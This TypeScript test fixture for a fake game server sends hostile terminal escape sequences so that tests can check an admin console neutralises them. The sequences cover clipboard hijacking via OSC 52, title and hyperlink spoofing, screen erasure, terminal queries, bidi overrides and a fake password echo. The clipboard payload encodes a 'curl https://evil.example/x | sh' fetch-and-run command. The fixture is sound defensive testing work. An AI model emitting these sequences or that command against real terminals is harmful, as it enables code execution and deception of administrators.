import type { CommandHandler } from './commands';

/**
 * What a malicious server (or a player whose name or chat a server echoes) can put in an answer
 * to attack the admin's terminal or console. The `hostile` personality sends every one of these;
 * the tests check that none takes effect and that the text around it still shows.
 */
export interface HostileSequence {
  name: string;
  bytes: string;
  /** Text that must still be visible after the sequence is made harmless, if any. */
  visible?: string;
}

const ESC = '\x1b';
const ST = `${ESC}\\`;
/** What OSC 52 would put on the clipboard: `curl https://evil.example/x | sh`. */
export const CLIPBOARD_PAYLOAD = Buffer.from('curl https://evil.example/x | sh').toString('base64');
export const HOSTILE_TITLE = 'pwned-title';

export const HOSTILE_SEQUENCES: readonly HostileSequence[] = [
  { name: 'OSC 52 (set the clipboard)', bytes: `${ESC}]52;c;${CLIPBOARD_PAYLOAD}\x07` },
  { name: 'OSC 0 (window title)', bytes: `${ESC}]0;${HOSTILE_TITLE}\x07` },
  { name: 'OSC 2 (window title, ST-terminated)', bytes: `${ESC}]2;${HOSTILE_TITLE}${ST}` },
  { name: 'OSC 8 (hyperlink)', bytes: `${ESC}]8;;https://evil.example/${ST}click${ESC}]8;;${ST}`, visible: 'click' },
  { name: 'cursor up and home', bytes: `${ESC}[3A${ESC}[H${ESC}[1;1H` },
  { name: 'cursor save and restore (ESC 7 / ESC 8)', bytes: `${ESC}7${ESC}8` },
  { name: 'erase line and display', bytes: `${ESC}[2K${ESC}[1K${ESC}[2J` },
  { name: 'erase scrollback (CSI 3J)', bytes: `${ESC}[3J` },
  { name: 'RIS (full reset)', bytes: `${ESC}c` },
  {
    name: 'erase its own [server] prefix and print a fake echo',
    bytes: `\r${ESC}[2K> rcon_password hunter2\b\b\b\b`,
    visible: '> rcon_password hunter2',
  },
  { name: 'CSI c (primary device attributes query)', bytes: `${ESC}[c` },
  { name: 'CSI >c (secondary device attributes query)', bytes: `${ESC}[>c` },
  { name: 'CSI 18t (text area size query)', bytes: `${ESC}[18t` },
  { name: 'XTVERSION query', bytes: `${ESC}[>0q` },
  { name: 'DSR cursor position query', bytes: `${ESC}[6n` },
  { name: 'DECRQSS query (DCS)', bytes: `${ESC}P$qm${ST}` },
  { name: 'mouse tracking on', bytes: `${ESC}[?1000h${ESC}[?1003h${ESC}[?1006h` },
  { name: 'alternate screen on', bytes: `${ESC}[?1049h${ESC}[?47h` },
  { name: 'hide cursor and bracketed paste', bytes: `${ESC}[?25l${ESC}[?2004h` },
  { name: 'SGR 8 (concealed text)', bytes: `${ESC}[8mconcealed-secret${ESC}[0m`, visible: 'concealed-secret' },
  { name: 'APC, PM and SOS strings', bytes: `${ESC}_apc-payload${ST}${ESC}^pm-payload${ST}${ESC}Xsos-payload${ST}` },
  { name: 'U+202E (right-to-left override)', bytes: 'report\u202Etxt.exe', visible: 'report<U+202E>txt.exe' },
  { name: 'bidi isolates', bytes: '\u2066iso\u2069', visible: 'iso' },
  { name: 'C1 CSI (U+009B) erase display', bytes: '\u009b2J\u009b?1049h' },
  { name: 'C1 OSC (U+009D) window title', bytes: `\u009d0;${HOSTILE_TITLE}\u009c` },
  { name: 'BEL, backspace and DEL', bytes: '\x07\b\x7f' },
];

/** Every sequence, each on a line of its own between readable markers. */
export function hostileAnswer(): string {
  return HOSTILE_SEQUENCES.map((sequence, index) => `hostile ${index} <${sequence.bytes}> end ${index}\n`).join('');
}

export const HOSTILE_COMMANDS: Record<string, CommandHandler> = {
  /** `hostile`: every sequence in the answer; `hostile N`: only the N-th. */
  hostile: (args) => {
    const index = Number(args.trim());
    if (args.trim() !== '' && Number.isInteger(index) && HOSTILE_SEQUENCES[index]) {
      return `hostile ${index} <${HOSTILE_SEQUENCES[index].bytes}> end ${index}\n`;
    }
    return hostileAnswer();
  },
  /** Pushes every sequence as an unsolicited message, one message each, then answers. */
  'hostile-push': (_args, ctx) => {
    HOSTILE_SEQUENCES.forEach((sequence, index) => ctx.broadcast(`pushed ${index} <${sequence.bytes}> end ${index}`));
    return `pushed ${HOSTILE_SEQUENCES.length} messages\n`;
  },
};
